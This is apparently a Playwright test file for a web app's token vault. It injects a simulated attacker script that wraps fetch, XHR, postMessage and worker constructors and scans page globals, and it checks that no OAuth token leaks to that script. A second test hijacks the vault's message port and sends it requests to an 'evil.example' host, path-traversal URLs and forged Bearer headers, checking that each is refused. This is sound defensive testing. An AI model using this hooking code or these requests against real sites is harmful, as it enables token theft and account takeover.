/* eslint-disable @typescript-eslint/unbound-method -- the injected script wraps the browser's own methods, as an attacker's would */
import type { BrowserContext, Page } from '@playwright/test';
import { demoUser, expect, expectSignedIn, signIn, test } from './fixtures';
import { untilRefreshMs } from './support/app-timing';
import { emulator, emulatorUrl } from './support/emulator';
import { runClock } from './support/page-clock';
import { workList } from './support/screens';
import { openInspector, refreshes, signInButton } from './support/session-screens';

const attackerBinding = '__attackerSaw';

/**
 * Injected script, as the review's attacker ran it: it wraps fetch, XMLHttpRequest, postMessage,
 * MessagePort and the worker constructors before the app's own code runs, and reports all it sees.
 */
function injectAttacker(binding: string) {
  const report = (where: string, value: unknown) => {
    let text: string;
    try {
      text = typeof value === 'string' ? value : JSON.stringify(value);
    } catch {
      text = String(value);
    }
    (window as unknown as Record<string, (text: string) => void>)[binding]?.(`${where} ${text}`);
  };
  const originalFetch = window.fetch;
  window.fetch = async function (input: RequestInfo | URL, init?: RequestInit) {
    report('fetch', [
      String(input instanceof Request ? input.url : input),
      init?.headers,
      init?.body,
    ]);
    const response = await originalFetch.call(this, input, init);
    void response
      .clone()
      .text()
      .then((text) => {
        report('fetch answer', text);
      });
    return response;
  };
  const { open, send, setRequestHeader } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
    report('xhr open', args);
    this.addEventListener('load', () => {
      report('xhr answer', this.responseText);
    });
    (open as (...rest: unknown[]) => void).apply(this, args);
  };
  XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body) {
    report('xhr send', body);
    send.call(this, body);
  };
  XMLHttpRequest.prototype.setRequestHeader = function (this: XMLHttpRequest, name, value) {
    report('xhr header', [name, value]);
    setRequestHeader.call(this, name, value);
  };
  const portPost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
    report('port post', args[0]);
    (portPost as (...rest: unknown[]) => void).apply(this, args);
  } as typeof portPost;
  const windowPost = window.postMessage.bind(window);
  window.postMessage = ((...args: Parameters<typeof window.postMessage>) => {
    report('window post', args[0]);
    windowPost(...args);
  }) as typeof window.postMessage;
  window.addEventListener('message', (event) => {
    report('window message', event.data);
  });
  if (typeof SharedWorker !== 'undefined') {
    const Shared = SharedWorker;
    window.SharedWorker = class extends Shared {
      constructor(...args: ConstructorParameters<typeof SharedWorker>) {
        super(...args);
        report('shared worker', String(args[0]));
        this.port.addEventListener('message', (event) => {
          report('vault message', event.data);
        });
      }
    };
  }
  const Dedicated = Worker;
  window.Worker = class extends Dedicated {
    constructor(...args: ConstructorParameters<typeof Worker>) {
      super(...args);
      report('worker', String(args[0]));
      this.addEventListener('message', (event) => {
        report('vault message', event.data);
      });
      const post = this.postMessage.bind(this) as (...rest: unknown[]) => void;
      this.postMessage = ((...rest: unknown[]) => {
        report('worker post', rest[0]);
        post(...rest);
      }) as Worker['postMessage'];
    }
  };
}

/** Every string reachable from the page's globals, a few levels deep. */
function readEveryGlobal(): string {
  const seen = new Set<unknown>();
  const found: string[] = [];
  const walk = (value: unknown, depth: number) => {
    if (typeof value === 'string') {
      found.push(value);
      return;
    }
    if (depth > 4 || value === null || typeof value !== 'object' || seen.has(value)) return;
    if (value instanceof Node) return;
    seen.add(value);
    for (const key of Object.getOwnPropertyNames(value)) {
      try {
        walk((value as Record<string, unknown>)[key], depth + 1);
      } catch {
        // A getter that throws: nothing to read.
      }
    }
  };
  for (const key of Object.getOwnPropertyNames(window)) {
    try {
      walk((window as unknown as Record<string, unknown>)[key], 0);
    } catch {
      // As above.
    }
  }
  return found.join('\n');
}

async function attack(context: BrowserContext) {
  const saw: string[] = [];
  await context.exposeBinding(attackerBinding, (_source, text: string) => {
    saw.push(text);
  });
  await context.addInitScript(injectAttacker, attackerBinding);
  return {
    saw,
    /** What the attacker can read right now, from every global of the page. */
    async readGlobals(page: Page) {
      saw.push(`globals ${await page.evaluate(readEveryGlobal)}`);
    },
  };
}

async function expectNoIssuedTokenIn(texts: string[]) {
  const { accessTokens, refreshTokens } = await emulator.issuedTokens();
  expect(accessTokens.length).toBeGreaterThan(1);
  expect(refreshTokens.length).toBeGreaterThan(1);
  const everything = texts.join('\n');
  for (const token of [...accessTokens, ...refreshTokens]) {
    expect(everything.includes(token), 'a token reached script in the page').toBe(false);
  }
}

test.describe('the token vault', () => {
  test('script injected into the page finds no token, before, during and after a sign-in, refreshes and a sign-out', async ({
    page,
    context,
  }) => {
    const attacker = await attack(context);
    await page.goto('/');
    await attacker.readGlobals(page);

    // In the middle of the sign-in: the code exchange is held for a moment.
    await emulator.fault({ target: 'token', count: 1, delayMs: 1_500 });
    await signIn(page);
    await expect(page).toHaveURL(/\/callback|\/work/);
    await attacker.readGlobals(page);
    await expect(page.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    await attacker.readGlobals(page);

    // In the middle of a refresh, and after two, each rotating the refresh token.
    await openInspector(page);
    await emulator.fault({ target: 'token', count: 1, delayMs: 1_500 });
    await page.getByRole('button', { name: 'Refresh now' }).click();
    await attacker.readGlobals(page);
    await expect.poll(async () => (await refreshes()).length).toBe(1);
    await page.getByRole('button', { name: 'Refresh now' }).click();
    await expect.poll(async () => (await refreshes()).length).toBe(2);
    // On every screen: My work, a work item, Projects, a project, the profile.
    const main = page.getByRole('main');
    await page.getByRole('link', { name: 'My work' }).click();
    await expect(page.getByRole('heading', { name: 'My work' })).toBeVisible();
    await attacker.readGlobals(page);
    await workList(page).getByRole('link').first().click();
    await expect(page).toHaveURL(/\/work\/(task|issue)\//);
    await expect(main.getByRole('heading', { level: 1 })).toBeVisible();
    await attacker.readGlobals(page);
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Projects' })
      .click();
    await main.getByRole('listitem').first().getByRole('link').first().click();
    await expect(page).toHaveURL(/\/projects\//);
    await attacker.readGlobals(page);
    await page.getByTestId('signed-in-user').click();
    await expect(main.getByText(demoUser.email)).toBeVisible();
    await attacker.readGlobals(page);

    // In the middle of the sign-out: the revoke is held.
    await emulator.fault({ target: 'revoke', count: 1, delayMs: 1_500 });
    await page.getByRole('button', { name: 'Sign out' }).click();
    await attacker.readGlobals(page);
    await expect(signInButton(page)).toBeVisible();
    await expect
      .poll(async () => (await emulator.log()).some((entry) => entry.endpoint === 'revoke'))
      .toBe(true);
    await attacker.readGlobals(page);

    // The attacker did see the conversation with the vault, and every API answer.
    expect(attacker.saw.filter((line) => line.startsWith('vault message')).length).toBeGreaterThan(
      10,
    );
    await expectNoIssuedTokenIn(attacker.saw);
  });

  test('sends a token to Workfront’s API only: any other URL asked of it is refused', async ({
    page,
    context,
  }) => {
    // Injected script takes hold of the page's channel to the vault as the app first uses it.
    await context.addInitScript(() => {
      const steal = (prototype: MessagePort | Worker) => {
        const post = prototype.postMessage as (...rest: unknown[]) => void;
        prototype.postMessage = function (this: MessagePort | Worker, ...args: unknown[]) {
          // The one that carries the vault's requests (React's scheduler posts on a port too).
          const [message] = args;
          if (typeof message === 'object' && message !== null && 'id' in message) {
            (window as unknown as { stolenPort?: MessagePort | Worker }).stolenPort = this;
          }
          post.apply(this, args);
        };
      };
      steal(MessagePort.prototype);
      steal(Worker.prototype);
    });
    await page.goto('/');
    await signIn(page);
    await expectSignedIn(page);
    const answers = await page.evaluate(
      async (requests) => {
        const port = (window as unknown as { stolenPort?: MessagePort | Worker }).stolenPort;
        if (!port) throw new Error('no port to the vault');
        const ask = (request: object, id: number) =>
          new Promise<unknown>((resolve) => {
            port.addEventListener('message', (event: Event) => {
              const data = (event as MessageEvent<{ id?: number }>).data;
              if (data.id === id) resolve(data);
            });
            port.postMessage({ type: 'call-api', id, request });
          });
        return Promise.all(requests.map((request, index) => ask(request, 900_000 + index)));
      },
      [
        ...[
          'https://evil.example/attask/api/v20.0/user/search',
          `${emulatorUrl}/integrations/oauth2/api/v1/token`,
          'http://localhost:4173/attask/api/v20.0/../../integrations/oauth2/api/v1/token',
          'http://localhost:4173/config.json',
        ].map((url) => ({ method: 'GET', url })),
        // Workfront's API, but with headers of the script's own.
        {
          method: 'GET',
          url: 'http://localhost:4173/attask/api/v20.0/user/search',
          headers: { Authorization: 'Bearer stolen' },
        },
        { method: 'DELETE', url: 'http://localhost:4173/attask/api/v20.0/task/1' },
      ],
    );
    for (const answer of answers) {
      expect(answer).toMatchObject({ ok: false, failure: { kind: 'refused' } });
    }
  });
});

test.describe('tabs that share the vault', () => {
  test('make one refresh per window between them, and a reload while another is open asks Workfront nothing', async ({
    page,
    context,
    vaultKind,
  }) => {
    await emulator.settings({ accessTokenTtlSeconds: 300 });
    await context.clock.install();
    await page.goto('/work');
    await signIn(page);
    await expect(page.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    const other = await context.newPage();
    await other.goto('/work');
    await expect(other.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    // Without SharedWorker each tab keeps a vault of its own, as tabs did before the vault: the
    // second tab bounced for tokens of its own, and each refreshes them.
    const perWindow = vaultKind === 'shared' ? 1 : 2;
    expect(await emulator.tokenCalls('authorization_code')).toHaveLength(
      vaultKind === 'shared' ? 1 : 2,
    );

    for (let window = 1; window <= 3; window++) {
      await runClock(context, untilRefreshMs(300));
      await expect.poll(async () => (await refreshes()).length).toBe(window * perWindow);
    }
    const before = (await emulator.log()).filter((entry) => entry.endpoint !== 'api').length;
    await other.reload();
    await expect(other.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    const after = (await emulator.log()).filter((entry) => entry.endpoint !== 'api').length;
    if (vaultKind === 'shared') expect(after, 'no authorize and no token request').toBe(before);
    else expect(after, 'a bounce: authorize and a code exchange').toBeGreaterThan(before);
    expect((await refreshes()).every((call) => call.status === 200)).toBe(true);
  });

  test('a reload of the last tab bounces through Workfront, and comes back signed in', async ({
    page,
  }) => {
    await page.goto('/work');
    await signIn(page);
    await expect(page.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    await page.reload();
    await expect(page.getByTestId('signed-in-user')).toHaveText(demoUser.name);
    await expect(page).toHaveURL('/work');
    expect(await emulator.tokenCalls('authorization_code')).toHaveLength(2);
  });

  test('the flow inspector says where the tokens live, and how many tabs share them', async ({
    page,
    context,
    vaultKind,
  }) => {
    await page.goto('/');
    await signIn(page);
    await expectSignedIn(page);
    const other = await context.newPage();
    await other.goto('/session');
    await expect(other.getByTestId('token-vault')).toHaveText(
      vaultKind === 'shared'
        ? /the shared token vault.*tabs sharing it: 2\./
        : /this tab’s token vault/,
    );
  });
});
